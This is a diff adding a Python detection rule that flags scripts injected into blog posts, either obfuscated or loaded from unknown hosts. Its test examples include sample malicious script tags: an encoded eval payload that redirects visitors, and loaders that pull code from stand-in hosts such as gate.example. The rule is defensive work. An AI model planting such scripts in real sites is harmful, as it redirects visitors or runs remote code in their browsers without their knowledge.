@@ -1,0 +1,180 @@
+"""INJ001."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from audit.facts.url import parse_url
+from audit.finding import Confidence, CorpusFinding, Evidence, Place, Severity, Witness, others
+from audit.rule import Bad, CorpusRule, Good
+from audit.rules.injected._code import (
+    AUTOMATIC,
+    CONTENT,
+    concealed_addresses,
+    is_named_beside,
+    is_stranger,
+    loaded_addresses,
+    loads_from_hidden_address,
+    named_addresses,
+    pieces,
+    shown,
+)
+from audit.rules.injected._signatures import ADVICE, CHECKS, oddness
+
+if TYPE_CHECKING:
+    from collections.abc import Iterable, Iterator, Sequence
+
+    from audit.facts import Facts
+    from audit.rules.injected._code import Piece
+    from audit.site import SiteTotals
+
+_TEXT = "<p>The boats rose with the tide and the pilots waited for the evening wind.</p>"
+_SITE_CODE = 0.5
+"""Share of a site's posts from which a script is the site's own: a plugin or the template puts it there."""
+_SEVERAL = 2
+
+
+class InjectedScript(CorpusRule, code="INJ001", severity=Severity.ERROR, since="0.1.0"):
+    """A script in the text hides what it does, or comes from a host that nobody here knows.
+
+    Whoever can put a script into a post can read what visitors type, send them elsewhere, or make them install
+    something. What editors paste in (counters, advertising, players, charts, forms) is known and comes openly.
+    """
+
+    remedy = ADVICE
+    sources = CHECKS
+    needs = frozenset({"content"})
+    reads_content = True
+    keeps_quotes = True
+    examples = (
+        Bad(
+            f'{_TEXT}<script>eval(atob("ZG9jdW1lbnQubG9jYXRpb249Imh0dHBzOi8vcHJpemUuZXhhbXBsZS8i"))</script>',
+            says="runs code that it decodes first",
+            points_at="<script",
+        ),
+        Bad(f'{_TEXT}<script src="https://203.0.113.7/w.js"></script>', says="203.0.113.7"),
+        Bad(f'{_TEXT}<script src="https://traffic-gate.example/in.js"></script>', says="traffic-gate.example"),
+        Bad(
+            f"{_TEXT}<script>var s=document.createElement('script');s.src='//gate.example/w.js';"
+            "document.head.appendChild(s)</script>",
+            says="gate.example",
+        ),
+        Good(f'{_TEXT}<script async src="https://platform.twitter.com/widgets.js"></script>'),
+        Good(
+            f'{_TEXT}<div class="tide-clock"></div><script src="https://tide-clock.example/embed.js"></script>',
+            note="The container names the service.",
+        ),
+        Good(
+            f"{_TEXT}<script>document.write(unescape('%3Ca%20href%3D%22mailto%3Aoffice%40saltmarsh.example%22%3Email"
+            "%3C/a%3E'))</script>",
+            note="An address for mail, hidden from robots.",
+        ),
+        Good(
+            f"{_TEXT}<pre><code>&lt;script&gt;eval(atob('…'))&lt;/script&gt;</code></pre>", note="Code that is shown."
+        ),
+        Good(
+            posts=[
+                {"content": {"rendered": f'{_TEXT}<script src="https://gate.example/w.js"></script>'}},
+                {"content": {"rendered": f'{_TEXT}<script src="https://gate.example/w.js"></script><p>More.</p>'}},
+            ],
+            note="In every post: the template puts it there.",
+        ),
+    )
+
+    def gather(self, facts: Facts) -> Iterable[tuple[str, Witness]]:
+        """One witness for each script that says something suspicious; key: site, and host or sign."""
+        yield from _linked(facts)
+        for piece in pieces(facts):
+            if piece.kind == "handler" and piece.attribute in AUTOMATIC:
+                continue
+            verdict = _inline(piece, facts)
+            if verdict is not None:
+                key, values = verdict
+                yield f"{facts.site}\t{key}", Witness(values, piece.place)
+
+    def check(self, key: str, witnesses: Sequence[Witness], totals: SiteTotals) -> Iterable[CorpusFinding]:
+        """One finding for each post; silent about what is not certain and stands in half of the site's posts."""
+        posts = len({witness.order for witness in witnesses})
+        common = posts >= _SEVERAL and posts >= _SITE_CODE * totals.posts
+        told: set[int] = set()
+        for witness in sorted(witnesses, key=lambda one: (one.order, not one.values[1])):
+            says, certain, host, code, hidden = witness.values
+            if witness.order in told or (common and not certain):
+                continue
+            told.add(witness.order)
+            related, count = others(witness, witnesses, "has the same script")
+            evidence = [Evidence("code", str(code))] if code else []
+            if hidden:
+                evidence.append(Evidence("decodes to", str(hidden)))
+            if host:
+                evidence.append(Evidence("host", str(host)))
+            yield CorpusFinding(
+                f"A script in the text {says}.",
+                value=key.partition("\t")[2],
+                target=str(host),
+                severity=None if certain else Severity.WARNING,
+                confidence=Confidence.LIKELY,
+                evidence=tuple(evidence),
+                witness=witness,
+                related=related,
+                related_count=count,
+            )
+
+
+_Values = tuple[str, bool, str, str, str]
+
+
+def _linked(facts: Facts) -> Iterator[tuple[str, Witness]]:
+    """Scripts that an address loads."""
+    for node in facts.elements("script"):
+        source = node.attr("src")
+        url = parse_url(source, facts.base) if source else None
+        if url is None or (url.host and not is_stranger(url, facts)):
+            continue
+        if url.scheme == "data":
+            values: _Values = ("stands in its own address", True, "", shown(url.href), "")
+            yield f"{facts.site}\tdata", Witness(values, Place(CONTENT, node))
+            continue
+        if not url.host:
+            continue
+        odd = oddness(url)
+        if not odd and is_named_beside(url, node, facts):
+            continue
+        says = f"comes from {url.host}, {odd}" if odd else f"comes from {url.host}, whose scripts are not known here"
+        values = (says, bool(odd), url.host, shown(url.href), "")
+        yield f"{facts.site}\t{url.host}", Witness(values, Place(CONTENT, node))
+
+
+def _inline(piece: Piece, facts: Facts) -> tuple[str, _Values] | None:
+    """The verdict on the text of a script: what it hides first, then whom it loads from."""
+    reading = piece.reading
+    code = reading.code
+    hits = reading.hits
+    hidden = shown(" … ".join(reading.payloads))
+    if hits and not reading.hides_only_contact():
+        certain = [hit for hit in hits if hit.certain]
+        inside = named_addresses("\n".join(reading.payloads), facts) if reading.payloads else []
+        loaded = loaded_addresses(reading.whole, facts)
+        if not certain and not inside and not loaded and reading.hides_only_text():
+            return None
+        if {hit.id for hit in hits} <= {
+            "character-codes",
+            "decoded-write",
+            "hex-spelling",
+        } and reading.hides_only_text():
+            return None
+        hosts = inside or loaded
+        host = hosts[0].host if hosts else ""
+        says = (certain or hits)[0].says + (f" and names {host}" if host else "")
+        strong = bool(certain) or bool(hosts) or len(hits) >= _SEVERAL
+        return (certain or hits)[0].id, (says, strong, host, shown(code), hidden)
+    if loads_from_hidden_address(reading.joined):
+        return "hidden-source", ("loads another one from an address that it hides", True, "", shown(code), hidden)
+    for url in (*concealed_addresses(reading, facts), *loaded_addresses(reading.whole, facts)):
+        odd = oddness(url)
+        concealed = url.host not in code
+        if not odd and not concealed and is_named_beside(url, piece.node, facts):
+            continue
+        says = f"loads another one from {url.host}" + (f", {odd}" if odd else "")
+        return url.host, (says, bool(odd) or concealed, url.host, shown(code), hidden if concealed else "")
+    return None
